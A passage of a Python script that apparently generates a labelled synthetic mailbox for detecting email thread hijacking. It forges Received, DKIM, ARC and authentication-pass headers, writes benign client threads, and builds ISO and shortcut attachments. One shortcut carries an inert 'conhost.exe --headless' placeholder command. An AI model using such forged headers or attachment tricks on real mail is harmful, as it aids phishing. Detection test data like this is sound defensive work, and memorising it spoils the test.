    elif infra.startswith("look") or infra == "fake-renew" or infra == "afrihost-muiz" or infra == "cpanel-khumalo": auth += f";\n       dmarc=pass (p=NONE sp=NONE dis=NONE) header.from={fromdom}"
    top = [("Delivered-To", me.email),
           ("Received", f"by 2002:a05:7300:{hx(4)}:b0:{hx(3)}:{hx(4)}:{hx(4)} with SMTP id {alnum(6).lower()}csp{R.randint(100000, 999999)}{alnum(3).lower()};\n        {pac(tmx)}"),
           ("X-Received", f"by 2002:a17:906:{hx(4)}:b0:{hx(3)}:{hx(4)}:{hx(4)} with SMTP id {alnum(20).lower()}.{R.randint(10, 99)}.{int(tmx.timestamp())}{R.randint(100, 999)};\n        {pac(tmx)}"),
           ("ARC-Seal", f"i=1; a=rsa-sha256; t={int(tmx.timestamp())}; cv=none;\n        d=google.com; s=arc-20240605;\n        b={b64(60)}"),
           ("ARC-Authentication-Results", "i=1; " + auth),
           ("Return-Path", f"<{env}>"),
           ("Received", f"from {helo} ({helo}. [{ip}])\n        by mx.google.com with ESMTPS id {alnum(20).lower()}.{R.randint(100, 999)}.{t.year}.{R.randint(10, 99)}.{R.randint(10, 99)}\n"
                        f"        for <{me.email}>\n        (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256);\n        {pac(tmx)}"),
           ("Received-SPF", f"pass (google.com: domain of {env} designates {ip} as permitted sender) client-ip={ip};"),
           ("Authentication-Results", auth)]
    hops = sender_hops(who, infra, t, env, client, orig_ip)
    dk = []
    if s:
        dk = [("DKIM-Signature", f"v=1; a=rsa-sha256; c=relaxed/relaxed; d={d}; s={s};\n\tt={int(t.timestamp())}; bh={b64(32)};\n"
                                 f"\th=From:To:Subject:Date:Message-ID:References:In-Reply-To:Content-Type:MIME-Version;\n\tb={b64(180)}")]
    return top + hops + dk


UA = {"tb": ("User-Agent", "Mozilla Thunderbird"), "tbk": ("User-Agent", "Mozilla Thunderbird"),
      "roundcube": ("User-Agent", "Roundcube Webmail/1.6.6"), "iphone": ("X-Mailer", "iPhone Mail (22D82)"), "ipad": ("X-Mailer", "iPad Mail (22D82)"),
      "zoho": ("X-Mailer", "Zoho Mail"), "ox": ("X-Mailer", "Open-Xchange Mailer v7.10.6-Rev62"), "desk": ("X-Mailer", "Zammad Mail Service"),
      "desknote": ("X-Mailer", "Zammad Mail Service"), "emclient": ("User-Agent", "eM_Client/10.1.4588.0")}
CLANG = {"exo": "en-ZA", "owa": "en-US", "ex19": "en-ZA", "ex19p": "af-ZA", "outlookcom": "en-US", "tb": "en-GB", "tbk": "en-US"}

pending = []  # (utc time, seq, folder, raw, label, scenario, description)
seq = [0]


def addr(n, e):
    if not n: return e
    if not n.isascii():
        return "=?UTF-8?Q?" + "".join(c if c.isascii() and c.isalnum() else "_" if c == " " else "".join(f"={b:02X}" for b in c.encode()) for c in n) + f"?= <{e}>"
    return f'"{n}" <{e}>' if any(c in n for c in ".,|()@") else f"{n} <{e}>"


def enc_h(v): return v if v.isascii() else "=?UTF-8?B?" + base64.b64encode(v.encode()).decode() + "?="


def emit(who, client, t, to, cc, subj, refs, plain, html=None, atts=(), extra=(), label=None, infra=None, env=None, frm=None,
         irt=None, mid=None, tidx=None, topic=None, scen=None, orig_ip=None, folder=None, no_html=False, xoip=None):
    m = mid or make_mid(who, client, t)
    folder = folder or ("Sent" if who in (me, desk) else "INBOX")
    h = []
    if folder == "INBOX": h += transport(who, t, env, infra, client, orig_ip)
    date = t.strftime("%a, %d %b %Y %H:%M:%S %z")
    fromh = frm or addr(who.name, who.email)
    toh = ", ".join(addr(n, e) for n, e in to)
    if client in ("gmailweb", "gws", "gmail"):
        h += [("MIME-Version", "1.0")]
        if refs: h += [("References", " ".join(refs)), ("In-Reply-To", irt or refs[-1])]
        h += [("From", fromh), ("Date", date), ("Message-ID", m), ("Subject", enc_h(subj)), ("To", toh)]
        if cc: h.append(("Cc", ", ".join(addr(n, e) for n, e in cc)))
    else:
        h += [("From", fromh), ("To", toh)]
        if cc: h.append(("Cc", ", ".join(addr(n, e) for n, e in cc)))
        h += [("Subject", enc_h(subj)), ("Date", date), ("Message-ID", m)]
        if refs: h += [("In-Reply-To", irt or refs[-1]), ("References", "\n ".join(refs))]
    if client in ("exo", "owa", "ex19", "ex19p", "outlookcom"):
        h += [("Thread-Topic", enc_h(topic or subj.split(": ", 1)[-1])), ("Thread-Index", tidx or base64.b64encode(b"\x01" + rbytes(21)).decode())]
        h += [("Accept-Language", CLANG[client] + (", en-US" if CLANG[client] != "en-US" else "")), ("Content-Language", CLANG[client]),
              ("X-MS-Has-Attach", "yes" if atts else ""), ("X-MS-TNEF-Correlator", "")]
        if client in ("ex19", "ex19p"): h.append(("X-Originating-IP", f"[{xoip or EXCH_SRV[who.dom][2].rsplit('.', 1)[0] + '.' + str(R.randint(50, 90))}]"))
    if (infra or who.infra).startswith("exo") and who.dom in TENANT:
            h += [("X-MS-Exchange-CrossTenant-Network-Message-Id", ruuid()), ("X-MS-Exchange-CrossTenant-originalarrivaltime", f"{t.astimezone(UTC):%d %b %Y %H:%M:%S.%f}"[:-3] + " (UTC)"),
                  ("X-MS-Exchange-CrossTenant-fromentityheader", "Hosted"), ("X-MS-Exchange-CrossTenant-id", TENANT[who.dom]),
                  ("X-MS-Exchange-Transport-CrossTenantHeadersStamped", EXO_HOST[who.dom][:-4] + str(R.randint(1000, 9999)))]
    if client == "ox":
        h += [("X-Priority", "3"), ("Importance", "Normal"), ("X-Originating-Client", "open-xchange-appsuite"), ("X-Originating-IP", xoip or f"41.{R.choice((185, 186))}.{R.randint(1, 250)}.{R.randint(1, 250)}")]
    if client == "zoho": h += [("Importance", "Medium"), ("User-Agent", "Zoho Mail")]
    if client == "roundcube": h += [("X-Sender", who.email)]
    if client in UA: h.append(UA[client])
    if client in ("desk", "desknote"): h += [("Organization", "Tafelberg IT Services"), ("X-Loop", "yes")]
    if client in ("tb", "tbk"): h.append(("Content-Language", CLANG[client]))
    h += list(extra)
    if client in ("iphone", "ipad"): h.append(("Mime-Version", "1.0 (1.0)"))
    elif client not in ("gmailweb", "gws", "gmail"): h.append(("MIME-Version", "1.0"))
    if html is None and not no_html: html = html_of(client, plain)
    b = lambda: {"exo": "_000_" + EXO_HOST.get(who.dom, "AM6PR07MB5541") + HX(16) + "_", "owa": "_000_" + EXO_HOST.get(who.dom, "X") + HX(16) + "_",
                 "outlookcom": "_000_AM6PR07MB" + HX(20) + "_",
                 "ex19": "_000_" + hx(32) + "BWEX01bergvlietlocal_", "ex19p": "_000_" + hx(32) + "PEWEXCH19paarlenglocal_",
                 "gmailweb": "000000000000" + hx(16), "gws": "000000000000" + hx(16), "gmail": "000000000000" + hx(16),
                 "zoho": f"----=_Part_{R.randint(100000, 999999)}_{R.randint(10**8, 10**9)}.{int(t.timestamp() * 1000)}",
                 "ox": f"----=_Part_{R.randint(10000, 99999)}_{R.randint(100000, 999999)}.{int(t.timestamp() * 1000)}",
                 "iphone": f"Apple-Mail-{ruuid().upper()}", "ipad": f"Apple-Mail-{ruuid().upper()}", "tb": "------------" + alnum(24), "tbk": "------------" + alnum(24),
                 "roundcube": "=_" + hx(32), "desk": "mimepart_" + hx(13) + "_" + hx(4) + R.choice("0123456789") + hx(3)}.get(client, "=_" + hx(24))
    def textpart(ctype, text):
        data = text.encode("utf-8")
        if client in ("tb", "tbk") and ctype == "text/plain":
            return [f"Content-Type: text/plain; charset=UTF-8; format=flowed", "Content-Transfer-Encoding: " + ("7bit" if text.isascii() else "8bit"), "", text]
        if client == "roundcube" and ctype == "text/plain":
            cs = "US-ASCII" if text.isascii() else "UTF-8"
            return [f"Content-Type: text/plain; charset={cs};\n format=flowed", "Content-Transfer-Encoding: " + ("7bit" if text.isascii() else "8bit"), "", text]
        if client in ("iphone", "ipad") and ctype == "text/plain":
            if text.isascii(): return ["Content-Type: text/plain;\n\tcharset=us-ascii", "Content-Transfer-Encoding: 7bit", "", text]
            return ["Content-Type: text/plain;\n\tcharset=utf-8", "Content-Transfer-Encoding: quoted-printable", "", quopri.encodestring(data).decode("ascii")]
        if client in ("gmailweb", "gws", "gmail"):
            if text.isascii() and max(len(x) for x in text.split("\n")) < 990: return [f'Content-Type: {ctype}; charset="UTF-8"', "", text]
            return [f'Content-Type: {ctype}; charset="UTF-8"', "Content-Transfer-Encoding: quoted-printable", "", quopri.encodestring(data).decode("ascii")]
        if client in ("exo", "owa", "ex19", "ex19p", "outlookcom", "ox", "zoho", "desk", "mspc", "sfdc"):
            cs = '"utf-8"' if client in ("exo", "owa", "ex19", "ex19p", "outlookcom") else "UTF-8"
            cte = "7bit" if client == "zoho" and text.isascii() else "quoted-printable"
            if cte == "7bit": return [f"Content-Type: {ctype}; charset={cs}", "Content-Transfer-Encoding: 7bit", "", text]
            return [f"Content-Type: {ctype}; charset={cs}", "Content-Transfer-Encoding: quoted-printable", "", quopri.encodestring(data).decode("ascii")]
        return [f"Content-Type: {ctype}; charset=UTF-8", "Content-Transfer-Encoding: 8bit", "", text]
    alt = textpart("text/plain", plain)
    if html:
        ab = b(); alt = [f'Content-Type: multipart/alternative; boundary="{ab}"', "", f"--{ab}"] + textpart("text/plain", plain) + [f"--{ab}"] + textpart("text/html", html) + [f"--{ab}--"]
    if atts:
        mb = b(); body = [f'Content-Type: multipart/mixed; boundary="{mb}"', "", f"--{mb}"] + alt
        for name, data, ctype in atts:
            if client in ("gmailweb", "gws", "gmail"):
                body += [f"--{mb}", f'Content-Type: {ctype}; name="{name}"', f'Content-Disposition: attachment; filename="{name}"', "Content-Transfer-Encoding: base64",
                         f"Content-ID: <f_{alnum(9).lower()}0>", f"X-Attachment-Id: f_{alnum(9).lower()}0", "", base64.encodebytes(data).decode().rstrip("\n")]
            else:
                body += [f"--{mb}", f'Content-Type: {ctype}; name="{name}"', f'Content-Description: {name}' if client.startswith(("ex", "owa")) else None,
                         f'Content-Disposition: attachment; filename="{name}"; size={len(data)}' if client.startswith(("ex", "owa")) else f'Content-Disposition: attachment; filename="{name}"',
                         "Content-Transfer-Encoding: base64", "", base64.encodebytes(data).decode().rstrip("\n")]
                body = [x for x in body if x is not None]
        body += [f"--{mb}--"]
    else: body = alt
    raw = "\r\n".join(f"{k}: {v}".replace("\n", "\r\n") for k, v in h) + "\r\n" + "\r\n".join(body).replace("\r\n", "\n").replace("\n", "\r\n") + "\r\n"
    seq[0] += 1
    pending.append((t.astimezone(UTC), seq[0], folder, raw, (m, label) if label else None, scen))
    return m


class Thread:
    def __init__(s, tid, partner, subj, inbox_to=None):
        s.tid, s.p, s.subj, s.refs, s.last, s.inbox_to = tid, partner, subj, [], None, inbox_to
        s.blocks = []
        s.tbase = b"\x01" + rbytes(21)
        s.recs = []

    def add(s, who, text, t, label=None, client=None, to=None, cc=None, sig=True, quote=True, subj=None, scen=None, quote_text=None, detached=False, **kw):
        client = client or who.client
        plain = text + (who.sig if sig else "")
        if quote and s.last:
            q = dict(s.last)
            if quote_text is not None: q["plain"] = quote_text
            plain += quote_of(client, q)
        if subj is None:
            if not s.refs or client in ("desk", "desknote", "sfdc"): subj = s.subj
            else:
                pf = "RE: " if client in ("exo", "owa", "ex19", "ex19p", "outlookcom") else ("Re: " if client != "desk" else "Re: ")
                base = s.subj
                subj = base if base.lower().startswith("re:") else pf + base
        if to is None: to = [(s.p.name, s.p.email)] if who in (me, desk) else (s.inbox_to or [(me.name, me.email)])
        if label == G and scen is None:
            s.np = getattr(s, "np", 0) + 1
            scen = (f"P-{s.tid}-{s.np}", f"plain in-thread reply from {who.name} in {s.tid} '{s.subj}'")
        while len(s.blocks) < len(s.refs): s.blocks.append(rbytes(5))
        if "tidx" not in kw: kw["tidx"] = base64.b64encode(s.tbase + b"".join(s.blocks[:len(s.refs)])).decode()
        m = emit(who, client, t, to, cc, subj, list(s.refs), plain, label=label, topic=s.subj, scen=scen, **kw)
        if detached: return m
        s.refs.append(m)
        s.last = dict(t=t, name=who.name, email=who.email, plain=plain, subj=subj, to=to, cc=cc or [])
        s.recs.append(s.last)
        return m


G = ("genuine", "genuine-reply"); GH = ("genuine", "genuine-hard"); GO = ("genuine", "genuine-orphan")
def HJ(kind): return ("hijack", kind)


def zipfile_bytes(members, when=(2025, 3, 12, 16, 40, 0)):
    bio = io.BytesIO(); z = zipfile.ZipFile(bio, "w", zipfile.ZIP_DEFLATED)
    for name, data in members:
        zi = zipfile.ZipInfo(name, date_time=when); zi.compress_type = zipfile.ZIP_DEFLATED; z.writestr(zi, data)
    z.close(); return bio.getvalue()


def pdf_esc(s): return s.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")


def pdf(lines, producer="Microsoft® Word for Microsoft 365", when="20250303091200", zone="+02'00'"):
    content = ("BT /F1 11 Tf 14 TL 72 770 Td " + " ".join(f"({pdf_esc(l)}) '" for l in lines) + " ET").encode("latin-1")
    objs = ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
            f"<< /Length {len(content)} >>\nstream\n", "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
            f"<< /Producer ({pdf_esc(producer)}) /CreationDate (D:{when}{zone}) /ModDate (D:{when}{zone}) >>"]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"); offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        out += (f"4 0 obj\n{o}".encode() + content + b"\nendstream\nendobj\n") if i == 4 else f"{i} 0 obj\n{o}\nendobj\n".encode("latin-1")
    x = len(out); fid = hx(32)
    out += f"xref\n0 {len(objs) + 1}\n0000000000 65535 f \n".encode() + b"".join(f"{o:010d} 00000 n \n".encode() for o in offs)
    out += f"trailer\n<< /Size {len(objs) + 1} /Root 1 0 R /Info 6 0 R /ID [<{fid}> <{fid}>] >>\nstartxref\n{x}\n%%EOF\n".encode()
    return bytes(out)


def png(w=640, h=360):
    def chunk(tp, data): return struct.pack(">I", len(data)) + tp + data + struct.pack(">I", zlib.crc32(tp + data) & 0xffffffff)
    rows = b"".join(b"\x00" + bytes((R.randint(200, 255) if (x // 40 + y // 40) % 7 else 40) for x in range(w * 3)) for y in range(h))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0)) + chunk(b"IDAT", zlib.compress(rows, 6)) + chunk(b"IEND", b"")


def iso_image(label):
    data = bytearray(b"\x00" * 0x8000) + b"\x01CD001\x01\x00" + b"WIN32".ljust(32) + label.encode().ljust(32) + rbytes(1900)
    return bytes(data) + rbytes(4096)


def lnk_bytes():
    return (b"\x4c\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46" + rbytes(56)
            + "C:\\Windows\\System32\\conhost.exe --headless inert-probe-placeholder".encode("utf-16-le") + rbytes(40))


def notice(who, client, t, subj, plain, html, extra=(), label=None, scen=None, to=None, atts=(), refs=(), mid=None):
    """a stand-alone system notification (ticket system, Partner Center, portal, invoice run)"""
    return emit(who, client, t, to or [(me.name, me.email)], None, subj, list(refs), plain, html=html, atts=atts, extra=extra,
                label=label, scen=scen, mid=mid)


def desk_note(t, tk, subj, plain, label=None, scen=None):
    link = f"https://desk.{OWN}/#ticket/zoom/{tk - 4000}"
    body = plain + f"\n\nOpen ticket: {link}\n\n--\nTafelberg IT Helpdesk (automatic notification - do not reply)\nManage notifications: https://desk.{OWN}/#profile/notifications"
    html = ('<!DOCTYPE html><html><head><meta charset="utf-8"></head><body style="font-family:Helvetica,Arial,sans-serif;font-size:14px;color:#333">'
            + "<br>".join(H.escape(l) for l in plain.split("\n")) + f'<p><a href="{link}" style="background:#38ad69;color:#fff;padding:8px 14px;'
            f'text-decoration:none;border-radius:3px">Open ticket #{tk}</a></p><p style="color:#999;font-size:11px">Tafelberg IT Helpdesk (automatic notification - do not reply)'
            f'<br><a href="https://desk.{OWN}/#profile/notifications">Manage notifications</a></p></body></html>')
    return notice(helpdesk, "desknote", t, subj, body, html, extra=[("Auto-Submitted", "auto-generated"), ("Precedence", "bulk"),
                  ("X-Zammad-Ticket-Number", f"MSP-{tk}"), ("X-Auto-Response-Suppress", "All")], label=label, scen=scen)


SW_FOOT = ("\n\nSentryWall Technical Assistance Center\nsupport.sentrywall.example | +1 512 555 0199 (24x7)\n"
           "This message was sent from an unmonitored address. To reply, update the case in the support portal.")


def sw_case(t, case, caseid, subj, text, refs=(), label=None, scen=None, link_host="support.sentrywall.example", engineer="Jake Morrison"):
    link = f"https://{link_host}/s/case/{caseid}/view"
    ref = f"ref:!00D5e0{alnum(5)}.!500{caseid[3:12]}:ref"
    plain = f"Case {case} has been updated.\n\n{text}\n\nView case: {link}\n\nEngineer: {engineer}" + SW_FOOT + f"\n\n[ {ref} ]"
    html = ('<html><body style="margin:0;background:#f3f3f3"><table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">'
            '<table width="600" style="background:#fff;font-family:Arial,sans-serif;font-size:14px;color:#1d1d1d"><tr><td style="background:#0b3d5c;padding:16px">'
            '<img src="https://support.sentrywall.example/resource/logo_white.png" alt="SentryWall" height="28"></td></tr><tr><td style="padding:20px">'
            f"<p>Case <b>{case}</b> has been updated.</p><p>" + "<br>".join(H.escape(l) for l in text.split("\n")) + "</p>"
            f'<p><a href="{link}" style="background:#f28c28;color:#fff;padding:10px 18px;text-decoration:none;border-radius:4px">View case</a></p>'
            f"<p>Engineer: {engineer}</p></td></tr><tr><td style=\"padding:12px 20px;font-size:11px;color:#777\">SentryWall Technical Assistance Center | "
            '<a href="https://support.sentrywall.example">support.sentrywall.example</a> | +1 512 555 0199 (24x7)<br>This message was sent from an unmonitored address.'
            f"</td></tr></table></td></tr></table><p style=\"display:none\">[ {ref} ]</p></body></html>")
    extra = [("Reply-To", "SentryWall Support <support@sentrywall.example>"), ("X-SFDC-LK", "00D5e000000Kq7W"), ("X-SFDC-User", "0055e000006" + alnum(4)),
             ("X-Sender", "postmaster@salesforce.com"), ("X-mail_abuse_inquiries", "http://www.salesforce.com/company/abuse.jsp"), ("X-SFDC-TLS-NoRelay", "1"),
             ("X-SFDC-Binding", "1WrIRBV94myi25uB"), ("X-SFDC-EmailCategory", "apiSingleMail"), ("X-SFDC-Interface", "internal")]
    return emit(sentry, "sfdc", t, [(me.name, me.email)], None, subj, list(refs), plain, html=html, extra=extra, label=label, scen=scen)


def ms_notice(t, subj, intro, items, label=None, scen=None):
    links = [(txt, f"https://go.microsoft.example/fwlink/?linkid={R.randint(2200000, 2299999)}&clcid=0x409") for txt in items]
    links += [("Partner Center", "https://partner.microsoft.example/dashboard/home"), ("Privacy Statement", "https://go.microsoft.example/fwlink/?LinkId=521839"),
              ("Unsubscribe", f"https://mail.microsoft.example/unsub?e={hx(24)}")]
    plain = intro + "\n\n" + "\n".join(f"{a}: {u}" for a, u in links) + ("\n\nThis is a mandatory service communication. Microsoft Corporation, One Microsoft Way, "
                                                                      "Redmond, WA 98052 USA\nTafelberg IT Services (Partner ID 6" + "183442" + ")")
    html = ('<html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"></head><body style="margin:0;padding:0;background:#fff">'
            '<table role="presentation" width="640" align="center" style="font-family:\'Segoe UI\',Tahoma,sans-serif;font-size:15px;color:#262626">'
            '<tr><td style="padding:24px 0"><img src="https://img-prod-cms-rt-microsoft-com.akamaized.example/cms/api/am/imageFileData/logo.png" alt="Microsoft" width="108"></td></tr>'
            f'<tr><td><h1 style="font-size:26px;font-weight:600">{H.escape(subj)}</h1><p>' + "<br>".join(H.escape(l) for l in intro.split("\n")) + "</p><ul>"
            + "".join(f'<li><a href="{u}" style="color:#0067b8">{H.escape(a)}</a></li>' for a, u in links[:-3]) + "</ul></td></tr>"
            '<tr><td style="font-size:12px;color:#505050;padding-top:24px">This is a mandatory service communication.<br>'
            + " | ".join(f'<a href="{u}" style="color:#505050">{a}</a>' for a, u in links[-3:])
            + '<br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052 USA<br>Tafelberg IT Services (Partner ID 6183442)</td></tr></table></body></html>')
    extra = [("List-Unsubscribe", f"<{links[-1][1]}>"), ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"), ("X-MS-Exchange-Organization-AuthSource", "BN8NAM12FT0.namprd12.prod.outlook.com"),
             ("Feedback-ID", f"{R.randint(100, 999)}:{R.randint(10000, 99999)}:partnercenter:mscom")]
    return emit(msft, "mspc", t, [(me.name, me.email)], None, subj, [], plain, html=html, extra=extra, label=label, scen=scen)


SUP = [("Tafelberg IT Support", f"support@{OWN}")]
KRO = "https://remote.tafelberg-it.example"

# ================================================================ background notices (sender history)
ms_notice(at(2024, 10, 2, 17, 5, UTC), "Your Microsoft AI Cloud Partner Program membership renews soon",
          "Hello Tafelberg IT Services,\nYour partner program membership renews on 1 November 2024. Review your benefits and make sure your\n"
          "company profile and legal information are current before the renewal date.",
          ["Review benefits", "Update legal business profile", "Membership FAQ"])
sw_case(at(2024, 11, 19, 9, 40, CHI), "03021876", "5005x00001QkLmN", "Case 03021876: SSL inspection certificate warning on SW-100F [ ref ]",
        "Hi Sipho,\nThe CA certificate you uploaded is missing the basicConstraints extension, which is why the browsers complain.\n"
        "Please re-issue it from your internal CA with CA:TRUE and import it again.", engineer="Maria Gonzales")

# ================================================================ T9 Southern Cross Freight: laptops quote (Sept 2024)
t9 = Thread("T9", aisha, "Quote: 3 laptops for new sales reps")
t9.add(aisha, "Hi Sipho\n\nWe have three new sales reps starting on 1 October. Could you quote us three laptops with docking stations? "
       "They mostly use Outlook, Excel and the freight portal, nothing heavy.", at(2024, 9, 9, 9, 14))
t9.add(me, "Hi Aisha\n\nQuote TIT-Q-2409-07 attached: 3x HP ProBook 450 G10 (i5, 16 GB, 512 GB) with USB-C docks, M365 setup and data transfer included.\n"
       "Stock is available at the distributor this week.", at(2024, 9, 9, 11, 2),
       atts=[("TIT-Q-2409-07_SouthernCross.pdf", pdf(["Tafelberg IT Services - Quotation TIT-Q-2409-07", "3x HP ProBook 450 G10 i5/16/512",
                                                      "3x HP USB-C Dock G5", "Total incl. VAT: R 71 940,00"], producer="Skia/PDF m124", when="20240909105800"), "application/pdf")])
t9.add(aisha, "Approved, thank you. Purchase order 4471 is attached - please deliver to the Epping office, not the airport depot.",
       at(2024, 9, 10, 8, 47), G, atts=[("PO_4471.pdf", pdf(["Southern Cross Freight - Purchase Order 4471", "Supplier: Tafelberg IT Services",
                                                                "Ref TIT-Q-2409-07"], when="20240910084000"), "application/pdf")])
t9.add(me, "Order placed. The distributor quotes five working days, so we should have them imaged by the 25th.", at(2024, 9, 10, 9, 30))
t9.add(aisha, "Great, I'll book the boardroom on the 30th for handover.", at(2024, 9, 10, 10, 12), G)

# ================================================================ T23 Muizenberg: CCTV + Wi-Fi quote, revived after 7 months
t23 = Thread("T23", greg, "Quote for cameras and wifi at the shop")
t23.add(greg, "Hi Sipho\n\nWe want to put 4 cameras in the shop and fix the wifi in the back where the board repairs happen. "
        "Can you give me a price? No rush, we're flat out with the season starting.", at(2024, 9, 10, 16, 22))
t23.add(me, "Hi Greg\n\nPrice attached: four 4MP turret cameras with an 8-channel NVR, plus one ceiling access point for the workshop. "
        "Installation is a half day if the ceiling boards lift easily.", at(2024, 9, 12, 10, 5),
        atts=[("TIT-Q-2409-12_MuizenbergSurf.pdf", pdf(["Tafelberg IT Services - Quotation TIT-Q-2409-12", "4x 4MP turret camera, 1x 8ch NVR 2TB",
                                                        "1x ceiling access point, cabling", "Total incl. VAT: R 24 380,00"], producer="Skia/PDF m124", when="20240912100100"), "application/pdf")])
t23.add(greg, "Looks fair. Let me chat to my partner after the summer rush and get back to you.", at(2024, 9, 12, 13, 48), G)
t23.add(me, "No stress. Just note hardware prices are only held for 30 days.", at(2024, 9, 13, 8, 20))

# ================================================================ T7 [MSP-4387] Rondebosch Physio: slow reception PC (Nov 2024), revived by A14 in April
t7 = Thread("T7", lindiwe, "Reception computer very slow", inbox_to=SUP)
t7.add(lindiwe, "Good morning\n\nThe reception computer has become terribly slow this week. The booking system freezes for a minute at a time "
       "and patients are queuing at the desk. Could someone please look at it today?", at(2024, 11, 5, 8, 31))
desk_note(at(2024, 11, 5, 8, 32), 4387, "[MSP-4387] New ticket: Reception computer very slow (Rondebosch Physiotherapy)",
          "A new ticket was created by Lindiwe Mokoena <lindiwe@rondeboschphysio.example> and assigned to you.\nGroup: Service Desk\nPriority: 2 normal")
t7.subj = "[MSP-4387] Reception computer very slow"
t7.add(desk, "Hi Lindiwe\n\nThanks for logging this. I'd like to connect to the machine while nobody is using it - would 12:30 work? "
       "Please leave it switched on and logged in.", at(2024, 11, 5, 9, 10))
t7.add(lindiwe, "12:30 is fine, the front desk is quiet from then until about quarter past one.", at(2024, 11, 5, 9, 26), G)
t7.add(desk, "All done. The drive was 98% full with old scanned referral letters, so I moved about 40 GB of them to the NAS under \\\\RPNAS\\Scans\\Archive. "
       "The SSD itself reports healthy, but the PC is six years old and I'd suggest budgeting for a replacement next year.", at(2024, 11, 5, 14, 2))
t7.add(lindiwe, "What a difference, it's flying this morning. Thank you! We'll put the new PC in the January budget.", at(2024, 11, 6, 8, 14), G)

# ================================================================ T17 Werner: RMM scripts for the onboarding checklist (.ps1 + vendor links)
t17 = Thread("T17", werner, "Onboarding baseline script + download links")
t17.add(werner, "Hi Sipho\n\nHere's the first cut of the baseline script for new client laptops: it removes the OEM bloat, sets BitLocker to "
        "XTS-AES 256 and installs the RMM agent. Run it elevated.\n\nVendor downloads I use for the checklist:\n"
        "https://www.dell.example/support/kbdoc/en-za/000177325/dell-command-update\n"
        "https://www.sentrywall.example/support/downloads/sentryconnect\n", at(2024, 11, 12, 16, 21),
        atts=[("New-TafelBaseline.ps1", ("#Requires -RunAsAdministrator\n# Tafelberg IT - client laptop baseline v1.1 (W. Visser)\nparam([string]$Client)\n"
                                         "$ErrorActionPreference = 'Stop'\nGet-AppxPackage *CandyCrush* | Remove-AppxPackage\n"
                                         "Enable-BitLocker -MountPoint C: -EncryptionMethod XtsAes256 -TpmProtector\n"
                                         "Write-Output \"Baseline applied for $Client\"\n").encode(), "application/octet-stream")])
t17.add(me, "Nice one. Could it also set the time zone and the regional format? The last two Karoo laptops came out of the box on Pacific time "
        "with US dates and Excel confused everybody.", at(2024, 11, 12, 17, 3))
t17.add(werner, "v1.2 attached - added Set-TimeZone 'South Africa Standard Time', Set-Culture en-ZA and Set-WinHomeLocation 209. "
        "Tested on the spare Latitude.", at(2024, 11, 13, 8, 12), GH, scen=("G1", "colleague engineer sends his usual .ps1 script (v1.2) as attachment"),
        atts=[("New-TafelBaseline.ps1", ("#Requires -RunAsAdministrator\n# Tafelberg IT - client laptop baseline v1.2 (W. Visser)\nparam([string]$Client)\n"
                                         "$ErrorActionPreference = 'Stop'\nSet-TimeZone -Id 'South Africa Standard Time'\nSet-Culture en-ZA\nSet-WinHomeLocation -GeoId 209\n"
                                         "Enable-BitLocker -MountPoint C: -EncryptionMethod XtsAes256 -TpmProtector\n").encode(), "application/octet-stream")])
t17.add(me, "Ran it on a Hyper-V test VM, all green. I'll add it to the checklist in IT Glue.", at(2024, 11, 13, 10, 40))

t17.add(werner, "Refreshed the download links for the onboarding checklist - Dell moved their Command Update page again:\n\n"
        "Dell Command Update: https://www.dell.example/support/kbdoc/en-za/000177325/dell-command-update\n"
        "HP Image Assistant: https://ftp.hp.example/pub/caps-softpaq/cmit/HPIA.html\n"
        "SentryConnect VPN: https://www.sentrywall.example/support/downloads/sentryconnect\n"
        "Vaultline agent: https://www.vaultline.example/downloads/agent/windows\n\nAll four are the vendors' own pages, no mirrors.",
        at(2025, 2, 10, 15, 12), GH, scen=("G3", "colleague engineer sends the vendor download-page links he always uses"))
t17.add(me, "Updated in IT Glue, thanks. The HP one is new to the list but makes sense for the Southern Cross ProBooks.", at(2025, 2, 10, 15, 40))

# ================================================================ T30 Karoo: M365 licence true-up (Nov 2024)
t30 = Thread("T30", michelle, "Microsoft licences - leavers and the new driver supervisor")
t30.add(me, "Hi Michelle\n\nYour annual Microsoft 365 term renews on 1 December. According to the admin centre you have 24 Business Premium "
        "licences but only 21 active users. Should I drop the three unused ones at renewal?", at(2024, 11, 18, 10, 12))
t30.add(michelle, "Hi Sipho\n\nTwo of them are the drivers who left in August, so yes, drop those. Keep the third one - we have a driver "
        "supervisor starting in January.", at(2024, 11, 18, 11, 40), G)
t30.add(me, "Noted: 23 licences from 1 December. I'll email you the updated monthly amount once the distributor confirms the new pricing.",
        at(2024, 11, 18, 12, 5))
t30.add(michelle, "Thanks. Johan will ask why the amount went up in rands again, so please add a line explaining the exchange rate.",
        at(2024, 11, 19, 8, 2), G)

# ================================================================ T29 Southern Cross Freight: new warehouse user (Dec 2024)
t29 = Thread("T29", aisha, "New user: Pieter Olivier (warehouse supervisor)")
t29.add(aisha, "Hi Sipho\n\nPlease set up Pieter Olivier, our new warehouse supervisor, from Monday 9 December. He needs email, Teams "
        "and read-only access to the Operations SharePoint site. No laptop - he'll use the warehouse PC.", at(2024, 12, 3, 10, 55))
t29.add(me, "Hi Aisha\n\nWill do. Shall I make his address pieter.olivier@ like the rest of the team? And does he need the warehouse "
        "shared mailbox as well?", at(2024, 12, 3, 11, 30))
t29.add(aisha, "Yes to both please. His cell number for the MFA is 072 555 6190.", at(2024, 12, 3, 12, 4), G)
t29.add(me, "Account is ready. I'll SMS him the temporary password on Monday morning and help him register the Authenticator app.",
        at(2024, 12, 6, 15, 20))
t29.add(aisha, "Perfect, he's in at 7:30 on Monday if you want to call him then.", at(2024, 12, 6, 15, 41), G)

